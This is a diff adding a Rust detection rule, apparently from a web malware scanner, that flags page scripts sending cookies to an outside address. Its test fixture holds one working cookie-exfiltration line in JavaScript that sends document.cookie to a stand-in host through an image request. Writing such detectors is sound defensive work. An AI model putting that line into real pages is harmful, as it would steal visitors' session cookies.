@@ -1,0 +1,18 @@
+//! `cookies-sent-abroad`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "cookies-sent-abroad",
+    description: "Cookies of the page reach an absolute address.",
+    severity: Severity::Medium,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::CookiesSentAbroad])],
+    within: 0,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &["var c=escape(document.cookie);new Image().src='http://c.example/s?c='+c"],
+        without: &["var c=document.cookie.indexOf('seen=');if(c<0)fetch('https://c.example/hello')"],
+    },
+};
